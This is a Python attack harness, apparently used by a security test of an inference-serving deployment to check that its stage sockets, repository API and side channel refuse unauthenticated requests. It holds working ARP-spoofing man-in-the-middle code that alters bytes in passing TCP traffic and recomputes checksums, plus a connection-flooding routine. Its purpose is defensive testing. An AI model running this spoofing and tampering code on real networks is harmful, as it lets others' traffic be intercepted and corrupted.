"""What a host on the deployment's network that holds no secret gets, tried from that host (test_stage_hosts.py
runs it there: ``python attacker.py <what> '<json>'``, with a deployment secret of its own making in its environment).

It knows what the network shows: the head's address and ports, a joined worker's TCP stage address, and the stage
models' names. What it tries:

- ``probe``: each request it can make of the head and of a worker's stage socket; prints one JSON object, for each
  attempt what came back (an HTTP status and the error's text, or how a connection ended);
- ``flood``: opens ``connections`` connections to a worker's stage socket and holds them, as a slow handshake would;
  prints how many the worker closed at once, then holds the rest until its stdin closes;
- ``relay``: listens on this host and relays each connection to a worker's stage socket, byte for byte; prints its
  port, then relays until its stdin closes (a deployment process told this host's address connects through it);
- ``tamper``: puts itself on the path from one host to another (``from`` -> ``to``) by ARP spoofing, as any host on
  a shared layer-2 network can: it tells ``from`` that ``to``'s address is at its own MAC, every 0.2 s, and passes on
  each frame that then comes to it. Of each burst of TCP segments of at least ``min_bytes`` to or from no port in
  ``spared`` (the stage sockets and Triton's ports: what is left between the hosts is NIXL's UCX traffic, the
  tensors), it changes one byte of the first segment; prints ``{"on_path": true}`` once a frame has come through it, and at the end
  (its stdin closed, the right address told again for 2 s while it still passes frames on) how many it passed and
  changed;
- ``side_channel``: asks a vLLM KV producer's NIXL side channel for its agent metadata, as vLLM's consumers ask
  (``get_meta_msg``), and sealed as the deployment's consumers seal it but with this host's own secret; prints what
  came back of each (null: nothing within 3 s).

Nothing here asserts: the test reads the answers."""

from __future__ import annotations

import contextlib
import json
import struct
import sys
import time


def _entry(base: str) -> dict:
    """A client's request to an entry model: what anyone on the network may do (the control that the head is
    reachable from here at all)."""
    import requests

    body = {"text_input": "USER: Say something. ASSISTANT:", "exclude_input_in_output": True,
            "sampling_parameters": json.dumps({"max_tokens": 4, "temperature": 0})}
    r = requests.post(f"{base}/v2/models/epd/generate", json=body, timeout=120)
    return {"status": r.status_code, "text": r.json().get("text_output") if r.ok else r.text[:300]}


def _stage(head: str, grpc_port: int, name: str, credential: str | None) -> dict:
    """An inference request to the stage model ``name`` on a gRPC stream (decode is decoupled), its declared inputs
    filled, with no stage credential or with one of the attacker's own making: the first answer, or its error."""
    import queue

    import numpy as np
    import tritonclient.grpc as grpcclient

    client = grpcclient.InferenceServerClient(f"{head}:{grpc_port}")
    answers: queue.Queue = queue.Queue()
    try:
        meta = client.get_model_metadata(name, as_json=True)
        inputs = []
        for spec in meta["inputs"]:
            given = grpcclient.InferInput(spec["name"], [1], spec["datatype"])
            value = np.array([b"x"], dtype=np.object_) if spec["datatype"] == "BYTES" else np.zeros(
                [1], dtype=grpcclient.triton_to_np_dtype(spec["datatype"]))
            given.set_data_from_numpy(value)
            inputs.append(given)
        client.start_stream(callback=lambda result, error: answers.put(error))
        client.async_stream_infer(name, inputs, parameters={"trident_stage_key": credential} if credential else None)
        error = answers.get(timeout=60)
        return {"answered": error is None, "error": "" if error is None else str(error)[:300]}
    except Exception as e:  # noqa: BLE001 - the refusal is what is read
        return {"answered": False, "error": f"{type(e).__name__}: {str(e)[:300]}"}
    finally:
        client.close()


def _repository(base: str, name: str, token: str | None) -> dict:
    """The repository API's unload of ``name``, with no access token or a guessed one."""
    import requests

    headers = {"triton-access-token": token} if token else {}
    r = requests.post(f"{base}/v2/repository/models/{name}/unload", headers=headers, timeout=30)
    return {"status": r.status_code, "error": r.text[:300]}


def _bind(base: str, stage: str, tcp: list) -> dict:
    """A bind of a stage model for an address of the attacker's choosing, sealed as the deployment's workers seal
    theirs, but with the attacker's secret, and the attacker's credential beside it."""
    import numpy as np
    import tritonclient.http as httpclient
    from tritonclient.utils import InferenceServerException

    from trident.core import auth
    from trident.core.protocol import BIND_MODEL, Bind, seal_bind

    client = httpclient.InferenceServerClient(base.removeprefix("http://"))
    given = httpclient.InferInput("bind", [1], "BYTES")
    given.set_data_from_numpy(np.array([seal_bind(Bind(stage=stage, tcp=tuple(tcp), name=f"{stage}-9"))],
                                       dtype=np.object_))
    try:
        answer = client.infer(BIND_MODEL, [given], parameters={auth.CREDENTIAL: auth.credential()})
        return {"status": 200, "name": answer.as_numpy("name").reshape(-1)[0].decode()}
    except InferenceServerException as e:
        return {"status": int(e.status() or 0), "error": str(e)[:300]}
    finally:
        client.close()


def _stage_socket(tcp: list) -> dict:
    """A connection to a worker's TCP stage socket, and its handshake with the attacker's secret; then the same
    socket sent a frame with no handshake at all."""
    import socket

    from trident.core.stagecall.client import open_stage_socket

    out: dict = {}
    try:
        sock, _session = open_stage_socket({"tcp": tcp})
        sock.close()
        out["handshake"] = "accepted"
    except Exception as e:  # noqa: BLE001 - the refusal is what is read
        out["handshake"] = f"{type(e).__name__}: {e}"
    with socket.create_connection(tuple(tcp), timeout=10) as raw:
        raw.settimeout(10)
        raw.sendall(b"\x00\x00\x00\x10" + b"call me, no hello")
        got = b""
        try:
            while chunk := raw.recv(4096):
                got += chunk
        except OSError as e:
            out["raw_end"] = type(e).__name__
        out["raw_bytes_back"] = len(got)
        out.setdefault("raw_end", "closed")
    return out


def main(args: dict) -> dict:
    base = f"http://{args['head']}:{args['http_port']}"
    t0 = time.monotonic()
    seen: dict = {"entry": _entry(base)}
    for name in args["stage_models"]:
        seen[f"stage {name}"] = _stage(args["head"], args["grpc_port"], name, None)
        seen[f"stage {name} with a credential of its own"] = _stage(args["head"], args["grpc_port"], name, "f" * 64)
    for name in args["stage_models"][:1] + ["epd"]:
        seen[f"unload {name}"] = _repository(base, name, None)
        seen[f"unload {name} with a guessed token"] = _repository(base, name, "test-token")
    seen["bind"] = _bind(base, "decode", args["own_tcp"])
    seen["stage socket"] = _stage_socket(args["worker_tcp"])
    seen["seconds"] = round(time.monotonic() - t0, 1)
    return seen


def _closed(sock) -> bool:
    """Whether the peer has closed ``sock`` (read without blocking: what it sent before the close is dropped)."""
    import socket

    try:
        while chunk := sock.recv(4096, socket.MSG_DONTWAIT):
            pass
        return chunk == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


def flood(args: dict) -> None:
    import socket

    socks = []
    for _ in range(args["connections"]):
        try:
            socks.append(socket.create_connection(tuple(args["worker_tcp"]), timeout=5))
        except OSError:
            break
    time.sleep(2.0)  # (the worker closes those past its bound at once)
    print(json.dumps({"opened": len(socks), "closed_at_once": sum(_closed(s) for s in socks)}), flush=True)
    sys.stdin.read()  # held until the test has sent its requests
    for s in socks:
        s.close()


def relay(args: dict) -> None:
    import socket
    import threading

    def pipe(a, b) -> None:
        try:
            while chunk := a.recv(65536):
                b.sendall(chunk)
        except OSError:
            pass
        finally:
            for s in (a, b):
                try:
                    s.shutdown(socket.SHUT_RDWR)
                except OSError:
                    pass

    def serve(listener) -> None:
        while True:
            try:
                conn, _ = listener.accept()
            except OSError:
                return
            upstream = socket.create_connection(tuple(args["worker_tcp"]), timeout=5)
            upstream.settimeout(None)
            threading.Thread(target=pipe, args=(conn, upstream), daemon=True).start()
            threading.Thread(target=pipe, args=(upstream, conn), daemon=True).start()

    listener = socket.create_server((args["address"], 0))
    threading.Thread(target=serve, args=(listener,), daemon=True).start()
    print(json.dumps({"port": listener.getsockname()[1]}), flush=True)
    sys.stdin.read()
    listener.close()


ETH_P_ALL, ETH_P_IP, ETH_P_ARP = 0x0003, 0x0800, 0x0806
SOL_PACKET, PACKET_VNET_HDR = 263, 15
VNET = struct.Struct("<BBHHHH")  # virtio_net_hdr: flags, gso_type, hdr_len, gso_size, csum_start, csum_offset
NEEDS_CSUM = 1


def _mac(address: str) -> bytes:
    """The MAC of ``address`` on this host's link, from its own neighbour table (a connection attempt first fills
    it: what any host learns by talking)."""
    import socket

    with contextlib.suppress(OSError):
        socket.create_connection((address, 9), timeout=1).close()
    for line in open("/proc/net/arp").read().splitlines()[1:]:
        fields = line.split()
        if fields[0] == address and fields[3] != "00:00:00:00:00:00":
            return bytes.fromhex(fields[3].replace(":", ""))
    raise SystemExit(f"no MAC for {address}")


def _arp_reply(to_mac: bytes, to_ip: str, claimed_ip: str, claimed_mac: bytes, own_mac: bytes) -> bytes:
    import socket

    return (to_mac + own_mac + struct.pack("!H", ETH_P_ARP) + struct.pack("!HHBBH", 1, ETH_P_IP, 6, 4, 2)
            + claimed_mac + socket.inet_aton(claimed_ip) + to_mac + socket.inet_aton(to_ip))


def _tcp_checksum(ip: bytes, tcp: bytearray) -> int:
    pseudo = ip[12:20] + struct.pack("!BBH", 0, 6, len(tcp))
    data = pseudo + bytes(tcp[:16]) + b"\0\0" + bytes(tcp[18:])
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def tamper(args: dict) -> None:
    import socket
    import threading

    src, dst, spared = args["from"], args["to"], set(args["spared"])
    sock = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    sock.setsockopt(SOL_PACKET, PACKET_VNET_HDR, 1)  # (whole GSO segments, and how their checksums stand)
    sock.bind(("eth0", 0))
    own_mac = sock.getsockname()[4]
    src_mac, dst_mac = _mac(src), _mac(dst)
    src_ip, dst_ip = socket.inet_aton(src), socket.inet_aton(dst)
    spoofing, done = threading.Event(), threading.Event()
    spoofing.set()
    counts = {"passed": 0, "changed": 0}
    previous = [0.0]  # when the last segment that could be changed came

    def tell() -> None:
        spoof = _arp_reply(src_mac, src, dst, own_mac, own_mac)
        truth = _arp_reply(src_mac, src, dst, dst_mac, own_mac)
        while not done.is_set():
            sock.send(VNET.pack(0, 0, 0, 0, 0, 0) + (spoof if spoofing.is_set() else truth))
            time.sleep(0.2)

    def change(frame: bytearray, flags: int, gso_type: int) -> bool:
        ip = 14
        if frame[ip + 9] != 6:  # not TCP
            return False
        tcp = ip + (frame[ip] & 0x0F) * 4
        ports = struct.unpack_from("!HH", frame, tcp)
        payload = tcp + (frame[tcp + 12] >> 4) * 4
        if spared & set(ports) or ip + struct.unpack_from("!H", frame, ip + 2)[0] - payload < args["min_bytes"]:
            return False
        if not flags & NEEDS_CSUM and gso_type:
            return False
        now = time.monotonic()
        if now - previous[0] < 0.1:  # one segment of each burst (a transfer): its other bytes pass as they were
            previous[0] = now
            return False
        previous[0] = now
        end = ip + struct.unpack_from("!H", frame, ip + 2)[0]  # (a frame may be padded past its packet)
        frame[end - 1] ^= 0x01
        if not flags & NEEDS_CSUM:  # a whole checksum: made again (with NEEDS_CSUM the kernel makes it on the way out)
            struct.pack_into("!H", frame, tcp + 16, _tcp_checksum(bytes(frame[ip:ip + 20]), frame[tcp:end]))
        return True

    def forward() -> None:
        buf = bytearray(VNET.size + 70000)
        announced = False
        while not done.is_set():
            try:
                n, addr = sock.recvfrom_into(buf)
            except socket.timeout:
                continue
            if addr[2] != socket.PACKET_HOST or n < VNET.size + 34:
                continue
            frame = buf[VNET.size:n]
            if frame[12:14] != b"\x08\x00" or frame[14 + 16:14 + 20] != dst_ip or frame[14 + 12:14 + 16] != src_ip:
                continue
            if change(frame, flags=buf[0], gso_type=buf[1]):
                counts["changed"] += 1
            frame[0:12] = dst_mac + own_mac
            sock.send(bytes(buf[:VNET.size]) + frame)
            counts["passed"] += 1
            if not announced:
                print(json.dumps({"on_path": True}), flush=True)
                announced = True

    sock.settimeout(0.2)
    threading.Thread(target=tell, daemon=True).start()
    passing = threading.Thread(target=forward, daemon=True)
    passing.start()
    sys.stdin.read()
    spoofing.clear()  # the truth told again, frames still passed on meanwhile
    time.sleep(2.0)
    done.set()
    passing.join(5)
    print(json.dumps(counts), flush=True)


def ask_side_channel(host: str, port: int, sealed: bool = False):
    """vLLM's ``get_meta_msg`` to the NIXL side channel at ``host:port``, plain or sealed as the deployment's consumers
    seal theirs (with this process's secret): what came back (hex, cut), or None when nothing did within 3 s. (Also
    asked from the test's own host: tests/e2e/test_vllm_serving.py.)"""
    import msgspec
    import zmq

    from trident.worker.engines.vllm_side_channel import SealedRequester

    ctx = zmq.Context()
    try:
        sock = ctx.socket(zmq.REQ)
        sock.setsockopt(zmq.RCVTIMEO, 3000)
        sock.setsockopt(zmq.LINGER, 0)
        sock.connect(f"tcp://{host}:{port}")
        sock = SealedRequester(sock) if sealed else sock
        sock.send(msgspec.msgpack.encode((b"get_meta_msg", 0, 0)))
        return [part.hex()[:64] for part in sock.recv_multipart()]
    except zmq.Again:
        return None
    except Exception as e:  # noqa: BLE001 - an answer that did not open: what it was is the point
        return f"{type(e).__name__}: {e}"
    finally:
        ctx.destroy(linger=0)


def side_channel(args: dict) -> dict:
    return {"plain": ask_side_channel(args["host"], args["port"]),
            "sealed with its own secret": ask_side_channel(args["host"], args["port"], sealed=True)}


if __name__ == "__main__":
    what, given = sys.argv[1], json.loads(sys.argv[2])
    if what in ("probe", "side_channel"):
        print(json.dumps({"probe": main, "side_channel": side_channel}[what](given)), flush=True)
    else:
        {"flood": flood, "relay": relay, "tamper": tamper}[what](given)
